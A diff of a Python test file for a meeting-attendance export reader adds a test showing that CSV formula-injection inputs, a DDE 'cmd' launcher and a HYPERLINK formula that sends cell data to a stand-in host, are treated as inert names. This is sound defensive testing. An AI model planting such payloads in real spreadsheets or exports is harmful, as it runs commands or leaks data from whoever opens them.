@@ -7,7 +7,10 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bot.errors import Refusal
+from bot.meetings.attendance import Known
 from bot.meetings.exports import Attendee, read_export
+
+from .arranged import roster
 
 TENCENT = """\
 会议主题,双周例会
@@ -46,6 +49,17 @@ def test_zooms_list_and_no_address_of_it():
         Attendee("Otter, B.", 30),
         Attendee("…", 29),
     )
+
+
+@pytest.mark.parametrize(
+    "formula", ["=coral", "+coral", "=1+cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1,"coral")']
+)
+def test_a_formula_is_a_name_and_nobodys(formula):
+    """Nothing is worked out, and it leads to nobody whom the roster knows."""
+    quoted = formula.replace('"', '""')
+    (found,) = read_export(f'姓名\n"{quoted}"\n'.encode(), "a.csv")
+    assert formula.startswith(found.name)
+    assert Known(roster(committer="coral")).who(found.name, *found.also).login is None
 
 
 @pytest.mark.parametrize(
